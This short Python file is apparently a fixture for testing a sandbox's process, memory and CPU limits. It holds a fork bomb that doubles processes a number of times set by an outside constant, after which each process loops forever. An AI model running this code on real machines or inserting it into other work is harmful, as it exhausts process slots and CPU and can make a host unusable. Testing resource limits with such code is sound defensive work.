"""Fork bomb: multiply until no process can start on the machine."""
# limits: processes memory cpu

import os
doublings = PROCESSES.bit_length()
while True:
    try:
        if doublings:
            os.fork()
            doublings -= 1
    except OSError:
        pass
